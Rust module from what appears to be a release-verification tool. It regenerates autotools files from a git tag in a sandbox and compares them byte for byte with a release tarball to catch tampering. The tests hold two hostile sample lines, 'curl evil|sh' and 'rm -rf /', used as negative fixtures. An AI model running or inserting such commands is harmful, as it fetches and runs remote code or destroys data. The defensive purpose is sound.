//! Autotools regeneration: from the tag's tree (plus the release's own vouched inputs, such as
//! m4 files a known release ships) produce `configure`, `aclocal.m4`, `config.h.in`, the
//! `Makefile.in` files and the auxiliary files automake and libtoolize copy, in the sandbox,
//! the way `make dist` may have; then compare each with the release byte for byte.
//!
//! Several command sequences are legitimate ways to produce a release (`autoreconf -i`,
//! `autoreconf -fi`, the explicit `aclocal && autoconf && autoheader && automake` chain, the
//! `automake --foreign` re-run of make dist's rebuild rules, and the project's own
//! autogen.sh when the policy names it). They are tried in order until every file is
//! reproduced; per file the first strategy that reproduces it is named in the report.

use crate::diff::{difference, Difference};
use crate::sandbox::{Mount, Sandbox, SandboxError, Spec};
use crate::toolchain::Toolchain;
use crate::versions::{closest, release_versions, Stamp, Tool};
use serde::Serialize;
use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::time::Duration;

/// One file put into the sandbox.
#[derive(Debug, Clone)]
pub struct InputFile {
    pub path: String,
    pub bytes: Vec<u8>,
    pub executable: bool,
    /// A symbolic link whose target is `bytes`.
    pub symlink: bool,
}

/// What to regenerate and from what.
#[derive(Debug, Clone, Default)]
pub struct Request {
    /// The tag's tree (trusted bytes, untrusted code).
    pub tree: Vec<InputFile>,
    /// Files of the release that something else already vouched for (a known m4 file, a
    /// known aux script): used as inputs, never judged by regeneration.
    pub vouched: Vec<InputFile>,
    /// The release's files that git does not back (extra or modified): path → bytes.
    pub release: BTreeMap<String, Vec<u8>>,
    /// The tag's own scripts (`autogen.sh`, `bootstrap`) that the policy allows to run, in
    /// the sandbox, as the first strategies.
    pub scripts: Vec<String>,
}

/// How one release file came out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FileResult {
    /// Byte-identical to what `strategy` produced (after `normalisation`, when named).
    Reproduced {
        strategy: String,
        normalisation: Option<String>,
        /// Release files used as inputs although nothing vouched for them (decomposition:
        /// they are judged on their own); empty when made from the tag and vouched files only.
        given: Vec<String>,
    },
    /// Produced, but different in every strategy; the diff is from the closest one.
    Differs {
        strategy: String,
        diff: Difference,
        /// For an aux script or m4 file: (release's, regenerated) version line when they
        /// differ — another upstream version of the script, not an edit of this one.
        versions: Option<(String, String)>,
    },
}

/// A release version the toolchain does not have.
#[derive(Debug, Clone, Serialize)]
pub struct VersionMismatch {
    pub tool: Tool,
    /// The version the release's files name, and the first file naming it.
    pub release: String,
    pub path: String,
    /// What the toolchain has (absent: not installed at all).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub available: Option<String>,
}

/// One strategy's run.
#[derive(Debug, Clone, Serialize)]
pub struct RunInfo {
    pub strategy: String,
    pub seconds: f64,
    /// The script's exit status (`null`: killed).
    pub status: Option<i32>,
    /// Release files it reproduced.
    pub reproduced: u64,
    /// The result came from the regeneration cache (an identical earlier run).
    pub cached: bool,
    /// The end of its error output when it failed.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

/// Everything regeneration established.
#[derive(Debug, Clone)]
pub struct Outcome {
    pub toolchain: String,
    pub toolchain_versions: BTreeMap<Tool, String>,
    pub release_versions: BTreeMap<Tool, Vec<Stamp>>,
    pub mismatches: Vec<VersionMismatch>,
    pub runs: Vec<RunInfo>,
    /// Release files a strategy produced (the others were not regenerated).
    pub files: BTreeMap<String, FileResult>,
    pub sandboxed: bool,
}

/// Why regeneration could not run at all.
#[derive(Debug, thiserror::Error)]
pub enum RegenError {
    #[error(transparent)]
    Sandbox(#[from] SandboxError),
    #[error("the tag's tree has no configure.ac or configure.in: nothing to regenerate from")]
    NoConfigureAc,
    #[error("cannot build the sandbox input: {0}")]
    Input(std::io::Error),
    #[error("the sandbox's result is not a readable tar stream ({strategy}): {source}")]
    Output {
        strategy: String,
        #[source]
        source: std::io::Error,
    },
    #[error("the policy names script {0:?}, which is not a file of the tag's tree")]
    NoScript(String),
}

/// Whether `path` is a file that autotools regeneration is responsible for: a release file of
/// this kind that regeneration does not produce is not backed by the tag.
pub fn claims(path: &str, bytes: &[u8]) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    crate::versions::stamp_of(path, bytes).is_some()
        || (base.ends_with(".h.in") && contains(bytes, b"by autoheader"))
}

/// Whether a file git holds might be replaced by a generated one in a release (its content is
/// then kept for comparison): the generated files' names.
pub fn may_be_generated(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    matches!(base, "configure" | "aclocal.m4" | "ltmain.sh") || base.ends_with(".in")
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// The command sequences tried, in order. `$ACLOCAL_FLAGS` comes from Makefile.am's
/// ACLOCAL_AMFLAGS (read inside the sandbox: it is the tag's content).
fn strategies(scripts: &[String]) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = scripts
        .iter()
        .map(|s| {
            (
                format!("script:{s}"),
                // NOCONFIGURE: the usual autogen.sh convention for "do not run configure".
                format!("NOCONFIGURE=1 sh ./{} </dev/null", shell_quote(s)),
            )
        })
        .collect();
    v.push(("autoreconf -i".into(), "autoreconf -i".into()));
    v.push(("autoreconf -fi".into(), "autoreconf -fi".into()));
    v.push((
        "aclocal && autoconf && autoheader && automake --add-missing --copy".into(),
        r#"if grep -Eq '^[[:space:]]*(LT_INIT|AC_PROG_LIBTOOL|AM_PROG_LIBTOOL)' configure.ac 2>/dev/null; then libtoolize --copy; fi
if grep -q 'AM_GNU_GETTEXT_VERSION' configure.ac 2>/dev/null; then ${AUTOPOINT:-autopoint}; fi
flags=$(sed -n 's/^ACLOCAL_AMFLAGS[[:space:]]*=//p' Makefile.am 2>/dev/null | head -n 1)
aclocal $flags
autoconf
if grep -Eq 'A[CM]_CONFIG_HEADERS?' configure.ac; then autoheader; fi
automake --add-missing --copy"#
            .into(),
    ));
    v.push((
        "autoreconf -i, then make dist's automake --foreign re-run".into(),
        "autoreconf -i && automake --foreign".into(),
    ));
    v
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// Run before every strategy: autopoint refuses to work over gettext files that differ from
/// its own copies (a vouched config.rpath of another gettext release), so it runs first with
/// --force, the vouched files are put back over what it copied, and the strategy's own
/// autopoint step becomes a no-op.
const AUTOPOINT_FIRST: &str = r#"if [ -s "$W/vouched.list" ]; then tar -cf "$W/vouched.tar" -T "$W/vouched.list"; fi
if grep -Eq 'AM_GNU_GETTEXT_(REQUIRE_)?VERSION' configure.ac 2>/dev/null; then autopoint --force; fi
if [ -f "$W/vouched.tar" ]; then tar -xf "$W/vouched.tar"; fi
export AUTOPOINT=true
"#;

/// Builds the input tar (tree first, then vouched files over it).
fn input_tar(req: &Request) -> Result<Vec<u8>, std::io::Error> {
    let mut b = tar::Builder::new(Vec::new());
    let mut seen = BTreeSet::new();
    // The vouched files' names, so that the script can put them back after autopoint.
    let list: String = req
        .vouched
        .iter()
        .filter(|f| !f.path.contains('\n'))
        .map(|f| format!("{}\n", f.path))
        .collect();
    let mut h = tar::Header::new_gnu();
    h.set_size(list.len() as u64);
    h.set_mode(0o644);
    b.append_data(&mut h, "vouched.list", list.as_bytes())?;
    for f in req.vouched.iter().chain(req.tree.iter()) {
        // Vouched files win: they are what the release was made with.
        if !seen.insert(f.path.clone()) {
            continue;
        }
        let mut h = tar::Header::new_gnu();
        if f.symlink {
            h.set_entry_type(tar::EntryType::Symlink);
            h.set_size(0);
            h.set_mode(0o777);
            let target = String::from_utf8_lossy(&f.bytes).to_string();
            b.append_link(&mut h, format!("src/{}", f.path), target)?;
        } else {
            h.set_entry_type(tar::EntryType::Regular);
            h.set_size(f.bytes.len() as u64);
            h.set_mode(if f.executable { 0o755 } else { 0o644 });
            // A fixed old time: every generated file is newer than every input, as after a
            // checkout, so no make rule decides anything from the inputs' times.
            h.set_mtime(1);
            b.append_data(&mut h, format!("src/{}", f.path), f.bytes.as_slice())?;
        }
    }
    b.into_inner()
}

/// The environment inside: nothing of the caller's.
pub fn environment(toolchain: &Toolchain) -> (Vec<(String, String)>, Vec<Mount>) {
    let mut env: Vec<(String, String)> = vec![
        ("LC_ALL".into(), "C".into()),
        ("LANG".into(), "C".into()),
        ("TZ".into(), "UTC".into()),
    ];
    let mut mounts = Vec::new();
    match toolchain {
        Toolchain::System => env.push(("PATH".into(), "/usr/bin:/bin".into())),
        Toolchain::Dirs(dirs) => {
            let mut roots = Vec::new();
            for d in dirs {
                let inside = crate::fetch::mount_of(d);
                mounts.push(Mount {
                    host: d.clone(),
                    inside: inside.clone(),
                });
                // A relocated libtool's macros also cover the system libtool's copies in
                // /usr/share/aclocal: aclocal would otherwise take the system's libtool.m4
                // (a higher serial) over ACLOCAL_PATH's. Only files the system has are
                // covered (a bind mount needs its mount point).
                if d.join("usr/share/libtool/build-aux/ltmain.sh").is_file() {
                    let own = d.join("usr/share/aclocal");
                    for e in std::fs::read_dir(&own).into_iter().flatten().flatten() {
                        let name = e.file_name();
                        let system = std::path::Path::new("/usr/share/aclocal").join(&name);
                        if system.is_file() && e.path().is_file() {
                            mounts.push(Mount {
                                host: e.path(),
                                inside: system.to_string_lossy().to_string(),
                            });
                        }
                    }
                }
                roots.push((inside, d.clone()));
            }
            env.extend(crate::fetch::relocation_env(&roots));
        }
    }
    (env, mounts)
}

/// Reads the result tar: regular files only, path → bytes (links and directories say
/// nothing a release file could be compared with).
fn read_output(strategy: &str, bytes: &[u8]) -> Result<BTreeMap<String, Vec<u8>>, RegenError> {
    let err = |source| RegenError::Output {
        strategy: strategy.to_string(),
        source,
    };
    let mut out = BTreeMap::new();
    let mut ar = tar::Archive::new(bytes);
    for e in ar.entries().map_err(err)? {
        let mut e = e.map_err(err)?;
        if e.header().entry_type() != tar::EntryType::Regular {
            continue;
        }
        let path = e.path().map_err(err)?.to_string_lossy().to_string();
        let path = path.trim_start_matches("./").to_string();
        let mut v = Vec::with_capacity(e.size() as usize);
        e.read_to_end(&mut v).map_err(err)?;
        out.insert(path, v);
    }
    Ok(out)
}

/// Removes the distributor's label from libtool's version lines (Debian: `VERSION="2.4.7
/// Debian-2.4.7-7~deb12u1"` and the `--version` text), the only lines a distribution's
/// ltmain.sh differs in from the same libtool release elsewhere.
pub fn normalise_libtool_label(bytes: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(bytes);
    let mut out = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim_end_matches('\n');
        if let Some(v) = trimmed.strip_prefix("VERSION=") {
            let v = v.trim_matches(['"', '\'']);
            out.push_str("VERSION=");
            out.push_str(v.split_whitespace().next().unwrap_or(""));
            out.push('\n');
        } else if trimmed.trim_start().starts_with("version:") && trimmed.contains("$scriptversion")
        {
            let keep = &trimmed[..trimmed.find("$scriptversion").unwrap() + "$scriptversion".len()];
            out.push_str(keep);
            out.push('\n');
        } else {
            out.push_str(line);
        }
    }
    out.into_bytes()
}

/// Undoes, in a file Debian's toolchain generated, the two Debian patches that change
/// generated output while keeping the upstream version number: autoconf 2.71-3 renames the
/// C++ standard cache variables (`ac_cv_prog_cxx_cxx11`, upstream `ac_cv_prog_cxx_11`), and
/// Debian's libtool adds a `netbsdelf*-gnu` case beside `netbsd*`. A release made with the
/// upstream tools differs from Debian's regeneration only there; both rewrites only turn
/// Debian's spelling into upstream's, so a release equal to the result is what upstream
/// autoconf/libtool produce from the tag.
pub fn undo_debian_patches(regenerated: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(regenerated);
    let mut out = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let body = line.trim_start();
        let indent = &line[..line.len() - body.len()];
        // Upstream 2.71 tests and resets `ac_cv_prog_cxx_NN` but sets `ac_cv_prog_cxx_cxxNN`
        // (the inconsistency Debian fixed): only the test and the reset lines differ.
        let rewritten = [
            ("11", "if test ${ac_cv_prog_cxx_cxx11+y}"),
            ("98", "if test ${ac_cv_prog_cxx_cxx98+y}"),
        ]
        .iter()
        .find(|(_, debian)| body.trim_end() == *debian)
        .map(|(n, _)| format!("{indent}if test ${{ac_cv_prog_cxx_{n}+y}}"))
        .or_else(|| {
            ["11", "98"]
                .iter()
                .find(|n| body.trim_end() == format!("ac_cv_prog_cxx_cxx{n}=no"))
                .map(|n| format!("{indent}ac_cv_prog_cxx_{n}=no"))
        });
        match rewritten {
            Some(r) => {
                out.push_str(&r);
                if line.ends_with('\n') {
                    out.push('\n');
                }
            }
            None => out.push_str(&line.replace("netbsd* | netbsdelf*-gnu)", "netbsd*)")),
        }
    }
    out.into_bytes()
}

/// The normalisation named in the report for [`undo_debian_patches`].
pub const DEBIAN_PATCHES: &str = "Debian's autoconf C++ cache-variable rename and libtool netbsdelf*-gnu case undone in the regenerated file (the release was made with the upstream tools)";

/// The normalisation named in the report for [`normalise_libtool_label`].
pub const LIBTOOL_LABEL: &str =
    "libtool distributor version label (the VERSION= and --version lines) ignored";

/// A finished run kept in the cache: status, seconds, and the result tar.
struct Cached {
    status: Option<i32>,
    stderr: Vec<u8>,
    stdout: Vec<u8>,
    elapsed: Duration,
}

/// The cache key of one strategy run: everything that decides its output.
fn cache_key(input: &[u8], spec: &Spec, toolchain: &Toolchain, sandbox: &Sandbox) -> String {
    use sha2::{Digest, Sha256};
    let mut h = Sha256::new();
    h.update(b"tarseal-regen cache v1\0");
    h.update(env!("CARGO_PKG_VERSION").as_bytes());
    h.update(Sha256::digest(input));
    h.update(spec.script.as_bytes());
    for (k, v) in &spec.env {
        h.update(k.as_bytes());
        h.update(b"=");
        h.update(v.as_bytes());
        h.update(b"\0");
    }
    h.update(toolchain.fingerprint());
    h.update([u8::from(
        sandbox.isolation == crate::sandbox::Isolation::Bubblewrap,
    )]);
    hex::encode(h.finalize())
}

fn cache_read(dir: &std::path::Path, key: &str) -> Option<Cached> {
    let meta = std::fs::read_to_string(dir.join(format!("{key}.meta"))).ok()?;
    let mut it = meta.split_whitespace();
    let status = match it.next()? {
        "killed" => None,
        s => Some(s.parse().ok()?),
    };
    let millis: u64 = it.next()?.parse().ok()?;
    Some(Cached {
        status,
        stdout: std::fs::read(dir.join(format!("{key}.tar"))).ok()?,
        stderr: std::fs::read(dir.join(format!("{key}.err"))).unwrap_or_default(),
        elapsed: Duration::from_millis(millis),
    })
}

fn cache_write(dir: &std::path::Path, key: &str, c: &Cached) {
    // Best effort: a cache that cannot be written only costs time. The meta file is written
    // last, so a half-written entry is never read.
    let _ = std::fs::create_dir_all(dir);
    let status = c.status.map(|s| s.to_string()).unwrap_or("killed".into());
    let ok = std::fs::write(dir.join(format!("{key}.tar")), &c.stdout).is_ok()
        && std::fs::write(dir.join(format!("{key}.err")), &c.stderr).is_ok();
    if ok {
        let _ = std::fs::write(
            dir.join(format!("{key}.meta")),
            format!("{status} {}\n", c.elapsed.as_millis()),
        );
    }
}

/// Regenerates and compares. `Err` only when nothing could be run at all. With `cache`, a
/// strategy whose inputs, script, environment and toolchain bytes equal an earlier run's is
/// not run again (its recorded result is used; `RunInfo::cached` says so).
pub fn regenerate(
    req: &Request,
    sandbox: &Sandbox,
    toolchain: &Toolchain,
    cache: Option<&std::path::Path>,
) -> Result<Outcome, RegenError> {
    if !req
        .tree
        .iter()
        .any(|f| f.path == "configure.ac" || f.path == "configure.in")
    {
        return Err(RegenError::NoConfigureAc);
    }
    for s in &req.scripts {
        if !req.tree.iter().any(|f| &f.path == s && !f.symlink) {
            return Err(RegenError::NoScript(s.clone()));
        }
    }
    let toolchain_versions = toolchain.versions();
    let rel_versions =
        release_versions(req.release.iter().map(|(p, b)| (p.as_str(), b.as_slice())));
    let mut mismatches = Vec::new();
    for (tool, stamps) in &rel_versions {
        let have = toolchain_versions.get(tool);
        for s in stamps {
            if have != Some(&s.version) {
                mismatches.push(VersionMismatch {
                    tool: *tool,
                    release: s.version.clone(),
                    path: s.path.clone(),
                    available: have.cloned(),
                });
            }
        }
    }
    let input = input_tar(req).map_err(RegenError::Input)?;
    let vouched: BTreeSet<&str> = req.vouched.iter().map(|f| f.path.as_str()).collect();
    let (env, mounts) = environment(toolchain);
    let ctx = RunCtx {
        sandbox,
        toolchain,
        cache,
        env: &env,
        mounts: &mounts,
    };
    let mut files: BTreeMap<String, FileResult> = BTreeMap::new();
    let mut runs = Vec::new();
    let libtool_upstream =
        |v: Option<&String>| v.and_then(|v| v.split_whitespace().next().map(str::to_string));
    let libtool_same_release = libtool_upstream(toolchain_versions.get(&Tool::Libtool)).is_some()
        && rel_versions.get(&Tool::Libtool).is_some_and(|v| {
            v.iter().all(|s| {
                libtool_upstream(Some(&s.version))
                    == libtool_upstream(toolchain_versions.get(&Tool::Libtool))
            })
        });
    let targets: Vec<(&String, &Vec<u8>)> = req
        .release
        .iter()
        .filter(|(p, _)| !vouched.contains(p.as_str()))
        .collect();
    let all_done = |files: &BTreeMap<String, FileResult>| {
        targets.iter().all(|(p, b)| match files.get(*p) {
            Some(FileResult::Reproduced { .. }) => true,
            Some(FileResult::Differs { .. }) => false,
            None => !claims(p, b),
        })
    };
    let tree_bytes: BTreeMap<&str, &[u8]> = req
        .tree
        .iter()
        .filter(|f| !f.symlink)
        .map(|f| (f.path.as_str(), f.bytes.as_slice()))
        .collect();
    let mut first_ok: Option<(String, String)> = None;
    for (name, commands) in strategies(&req.scripts) {
        let (mut info, produced) = ctx.run(&name, &commands, &input)?;
        if let Some(produced) = produced {
            first_ok.get_or_insert((name.clone(), commands.clone()));
            info.reproduced = judge(
                &tree_bytes,
                &produced,
                &targets,
                &mut files,
                &name,
                &[],
                libtool_same_release,
            );
        }
        runs.push(info);
        if all_done(&files) {
            break;
        }
    }
    // Decomposition: files that still differ may differ only because the release was made
    // with other copies of its inputs (a libtool.m4 of another libtool build, a newer
    // config.sub). Those inputs are judged on their own (above: they differ, or are unknown);
    // here they are given to the first working strategy as they are in the release, so that
    // what is made from them (configure, aclocal.m4) is reproduced *given* them, and the
    // review surface shrinks to the inputs themselves.
    let given: Vec<&(&String, &Vec<u8>)> = targets
        .iter()
        .filter(|(p, _)| {
            is_input_like(p) && !matches!(files.get(*p), Some(FileResult::Reproduced { .. }))
        })
        .collect();
    if !all_done(&files) && !given.is_empty() {
        if let Some((name, commands)) = first_ok {
            let mut with = req.clone();
            let given_paths: Vec<String> = given.iter().map(|(p, _)| (*p).clone()).collect();
            for (p, b) in &given {
                let executable = looks_executable(b);
                with.vouched.push(InputFile {
                    path: (*p).clone(),
                    bytes: (*b).clone(),
                    executable,
                    symlink: false,
                });
            }
            let input2 = input_tar(&with).map_err(RegenError::Input)?;
            let label = format!("{name}, given the release's {}", given_paths.join(", "));
            // autopoint refuses to run over a gettext file that differs from its own copy;
            // here it would only copy files the release already gives.
            let commands = format!("export AUTOPOINT=true\n{commands}");
            let (mut info, produced) = ctx.run(&label, &commands, &input2)?;
            if let Some(produced) = produced {
                let rest: Vec<(&String, &Vec<u8>)> = targets
                    .iter()
                    .filter(|(p, _)| !given_paths.contains(p))
                    .copied()
                    .collect();
                info.reproduced = judge(
                    &tree_bytes,
                    &produced,
                    &rest,
                    &mut files,
                    &name,
                    &given_paths,
                    libtool_same_release,
                );
            }
            runs.push(info);
        }
    }
    Ok(Outcome {
        toolchain: toolchain.describe(),
        toolchain_versions,
        release_versions: rel_versions,
        mismatches,
        runs,
        files,
        sandboxed: sandbox.isolation == crate::sandbox::Isolation::Bubblewrap,
    })
}

/// The tool whose version decides whether `path` can be reproduced (`None`: any).
pub fn relevant_tool(path: &str) -> Option<Tool> {
    let base = path.rsplit('/').next().unwrap_or(path);
    if base == "configure" || base.ends_with(".h.in") {
        Some(Tool::Autoconf)
    } else if base == "aclocal.m4" || (base.starts_with("Makefile") && base.ends_with(".in")) {
        Some(Tool::Automake)
    } else if base == "ltmain.sh"
        || base == "libtool.m4"
        || base.starts_with("lt") && base.ends_with(".m4")
    {
        Some(Tool::Libtool)
    } else {
        None
    }
}

/// Files a release carries as *inputs* of regeneration (copied in by aclocal, libtoolize,
/// automake, autopoint, gnulib): m4 macros and auxiliary scripts.
pub fn is_input_like(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    (base.ends_with(".m4") && base != "aclocal.m4") || AUX_SCRIPTS.contains(&base)
}

/// The self-contained upstream scripts that automake, libtoolize and gettext copy into a
/// project (decomposition vouches for them against known upstream copies).
pub const AUX_SCRIPTS: &[&str] = &[
    "config.guess",
    "config.sub",
    "install-sh",
    "depcomp",
    "missing",
    "compile",
    "ar-lib",
    "test-driver",
    "tap-driver.sh",
    "ltmain.sh",
    "config.rpath",
    "mkinstalldirs",
    "ylwrap",
    "mdate-sh",
    "py-compile",
    "texinfo.tex",
];

fn looks_executable(b: &[u8]) -> bool {
    b.starts_with(b"#!")
}

/// The version line of an aux script: config.guess/config.sub's `timestamp='...'`, the
/// others' `scriptversion=...`, libtool's VERSION.
pub fn script_version(bytes: &[u8]) -> Option<String> {
    let head = &bytes[..bytes.len().min(16384)];
    let text = String::from_utf8_lossy(head);
    for line in text.lines() {
        let l = line.trim_start();
        for key in ["timestamp=", "scriptversion="] {
            if let Some(v) = l.strip_prefix(key) {
                return Some(
                    v.trim()
                        .trim_end_matches(';')
                        .trim_matches(['\'', '"'])
                        .to_string(),
                );
            }
        }
    }
    crate::versions::libtool_version(bytes)
}

struct RunCtx<'a> {
    sandbox: &'a Sandbox,
    toolchain: &'a Toolchain,
    cache: Option<&'a std::path::Path>,
    env: &'a [(String, String)],
    mounts: &'a [Mount],
}

impl RunCtx<'_> {
    /// One strategy in a fresh sandbox (or from the cache); the produced files when it
    /// succeeded.
    #[allow(clippy::type_complexity)]
    fn run(
        &self,
        name: &str,
        commands: &str,
        input: &[u8],
    ) -> Result<(RunInfo, Option<BTreeMap<String, Vec<u8>>>), RegenError> {
        let script = format!(
            "set -e\nexec 3>&1 1>&2\ncd \"$W\"\ntar --no-same-owner -xf -\ncd \"$W/src\"\n{AUTOPOINT_FIRST}{commands}\ncd \"$W/src\"\ntar -cf - --exclude=./autom4te.cache . >&3\n"
        );
        let spec = Spec {
            script,
            env: self.env.to_vec(),
            mounts: self.mounts.to_vec(),
        };
        let key = self
            .cache
            .map(|_| cache_key(input, &spec, self.toolchain, self.sandbox));
        let hit = self
            .cache
            .zip(key.as_deref())
            .and_then(|(d, k)| cache_read(d, k));
        let cached = hit.is_some();
        let out = match hit {
            Some(c) => c,
            None => {
                let o = self.sandbox.run(&spec, input)?;
                let c = Cached {
                    status: o.status,
                    stderr: o.stderr,
                    stdout: o.stdout,
                    elapsed: o.elapsed,
                };
                if let (Some(d), Some(k)) = (self.cache, key.as_deref()) {
                    cache_write(d, k, &c);
                }
                c
            }
        };
        let mut info = RunInfo {
            strategy: name.to_string(),
            seconds: (out.elapsed.as_secs_f64() * 1000.0).round() / 1000.0,
            status: out.status,
            reproduced: 0,
            cached,
            error: None,
        };
        if out.status != Some(0) {
            let e = String::from_utf8_lossy(&out.stderr);
            let tail: Vec<&str> = e.lines().rev().take(12).collect();
            info.error = Some(tail.into_iter().rev().collect::<Vec<_>>().join("\n"));
            return Ok((info, None));
        }
        let produced = read_output(name, &out.stdout)?;
        Ok((info, Some(produced)))
    }
}

/// Compares one strategy's output with the release's files, keeping per file the first
/// reproduction or the smallest difference. Returns how many it reproduced.
#[allow(clippy::too_many_arguments)]
fn judge(
    tree: &BTreeMap<&str, &[u8]>,
    produced: &BTreeMap<String, Vec<u8>>,
    targets: &[(&String, &Vec<u8>)],
    files: &mut BTreeMap<String, FileResult>,
    name: &str,
    given: &[String],
    libtool_same_release: bool,
) -> u64 {
    let mut n = 0;
    for (path, release) in targets {
        if matches!(files.get(*path), Some(FileResult::Reproduced { .. })) {
            continue;
        }
        let Some(regen) = produced.get(*path) else {
            continue;
        };
        // A file of the tag's tree that no command touched (ChangeLog, po/*.po): an input,
        // not an output; regeneration says nothing about the release's copy of it.
        if tree.get(path.as_str()) == Some(&regen.as_slice()) && !claims(path, release) {
            continue;
        }
        let result = match difference(path, release, regen) {
            None => FileResult::Reproduced {
                strategy: name.to_string(),
                normalisation: None,
                given: given.to_vec(),
            },
            Some(_)
                if libtool_same_release
                    && path.ends_with("ltmain.sh")
                    && normalise_libtool_label(release) == normalise_libtool_label(regen) =>
            {
                FileResult::Reproduced {
                    strategy: name.to_string(),
                    normalisation: Some(LIBTOOL_LABEL.into()),
                    given: given.to_vec(),
                }
            }
            Some(_)
                if std::str::from_utf8(regen).is_ok()
                    && undo_debian_patches(regen).as_slice() == release.as_slice() =>
            {
                FileResult::Reproduced {
                    strategy: name.to_string(),
                    normalisation: Some(DEBIAN_PATCHES.into()),
                    given: given.to_vec(),
                }
            }
            Some(diff) => FileResult::Differs {
                strategy: name.to_string(),
                diff,
                versions: match (script_version(release), script_version(regen)) {
                    (Some(a), Some(b)) if a != b && is_input_like(path) => Some((a, b)),
                    _ => None,
                },
            },
        };
        let better = match (files.get(*path), &result) {
            (None, _) => true,
            (_, FileResult::Reproduced { .. }) => true,
            (Some(FileResult::Differs { diff: old, .. }), FileResult::Differs { diff, .. }) => {
                diff.lines < old.lines
            }
            _ => false,
        };
        if matches!(result, FileResult::Reproduced { .. }) {
            n += 1;
        }
        if better {
            files.insert((*path).clone(), result);
        }
    }
    n
}

/// The available version closest to a mismatched one, for "install X" advice.
pub fn closest_available(m: &VersionMismatch, available: &[String]) -> Option<String> {
    closest(&m.release, available).cloned()
}

/// Time budget of one strategy by default (generous: curl's configure takes ~20 s here).
pub const DEFAULT_STRATEGY_TIME: Duration = Duration::from_secs(600);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn debian_patches_are_undone_only_in_their_spelling() {
        let debian = b"if test ${ac_cv_prog_cxx_cxx11+y}\n  ac_cv_prog_cxx_cxx98=no\n  ac_cv_prog_cxx_cxx11=$ac_arg\n  netbsd* | netbsdelf*-gnu)\n    x=yes\n";
        let upstream = b"if test ${ac_cv_prog_cxx_11+y}\n  ac_cv_prog_cxx_98=no\n  ac_cv_prog_cxx_cxx11=$ac_arg\n  netbsd*)\n    x=yes\n";
        assert_eq!(undo_debian_patches(debian), upstream.to_vec());
        // Anything else that differs still differs.
        let evil = b"if test ${ac_cv_prog_cxx_11+y}\n  ac_cv_prog_cxx_98=no\n  ac_cv_prog_cxx_cxx11=$ac_arg\n  netbsd*)\n    x=yes; curl evil|sh\n";
        assert_ne!(undo_debian_patches(debian), evil.to_vec());
        assert_eq!(undo_debian_patches(upstream), upstream.to_vec());
    }

    #[test]
    fn libtool_label_normalisation_touches_only_the_label_lines() {
        let debian = b"PACKAGE=libtool\nVERSION=\"2.4.7 Debian-2.4.7-7~deb12u1\"\npackage_revision=2.4.7\n       version:        $progname $scriptversion Debian-2.4.7-7~deb12u1\nrm -rf x\n";
        let upstream = b"PACKAGE=libtool\nVERSION=2.4.7\npackage_revision=2.4.7\n       version:        $progname $scriptversion\nrm -rf x\n";
        assert_eq!(
            normalise_libtool_label(debian),
            normalise_libtool_label(upstream)
        );
        let evil = b"PACKAGE=libtool\nVERSION=2.4.7\npackage_revision=2.4.7\n       version:        $progname $scriptversion\nrm -rf /\n";
        assert_ne!(
            normalise_libtool_label(evil),
            normalise_libtool_label(upstream)
        );
    }

    #[test]
    fn claims_generated_files_only() {
        assert!(claims(
            "configure",
            b"# Generated by GNU Autoconf 2.71 for x 1.\n"
        ));
        assert!(claims(
            "lib/Makefile.in",
            b"# Makefile.in generated by automake 1.16.5 from Makefile.am.\n"
        ));
        assert!(claims(
            "config.h.in",
            b"/* config.h.in.  Generated from configure.ac by autoheader.  */\n"
        ));
        assert!(!claims("configure", b"#!/bin/sh\n"));
        assert!(!claims("README", b"generated by automake 1.16.5"));
    }
}
